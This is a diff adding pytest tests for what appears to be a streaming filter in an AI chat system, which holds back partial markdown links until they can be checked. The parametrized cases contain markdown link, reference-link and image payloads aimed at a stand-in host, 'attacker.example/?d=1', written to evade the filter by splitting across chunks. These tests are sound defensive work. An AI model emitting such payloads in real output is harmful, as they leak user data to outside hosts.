@@ -118,3 +118,26 @@ def test_link_hosts_are_normalised() -> None:
     assert link_hosts.check(["Docs.Example.COM", "*.corp.example", "bücher.example"]) is None
     assert link_hosts.normalise(["Docs.Example.COM", "docs.example.com", "*.Corp.example", "bücher.example"]) == [
         "docs.example.com", "*.corp.example", "xn--bcher-kva.example"]
+
+
+def test_citation_markers_and_complete_links_do_not_hold_the_stream() -> None:
+    deltas = _stream("Days are thirty [1]. See [docs](https://docs.example.com/x) now. And more", 3)
+    sent = [d for d in deltas if d]
+    assert sent[0].startswith("Days ") and len(sent) > 5  # word by word, not at the paragraph's end
+    assert "".join(sent) == "Days are thirty [1]. See [docs](https://docs.example.com/x) now. And more"
+
+
+@pytest.mark.parametrize("text", [
+    "x [a\\] b](http://attacker.example/?d=1) y",
+    "x [a][r] y\n[r]: http://attacker.example/?d=1\n",
+    "x [a](<http://attacker.example/?d=1 2>) y",
+    "x <img\nsrc=http://attacker.example/?d=1> y",
+    "x ![a](http://attacker.example/?d=1 \"t (1)\") y",
+    "x [[1]](http://attacker.example/?d=1) y",
+])
+@pytest.mark.parametrize("size", [1, 2, 5])
+def test_constructs_split_across_pieces_are_held_until_they_end(text: str, size: int) -> None:
+    sent = ""
+    for d in _stream(text, size):
+        sent += d
+        assert EVIL not in sent
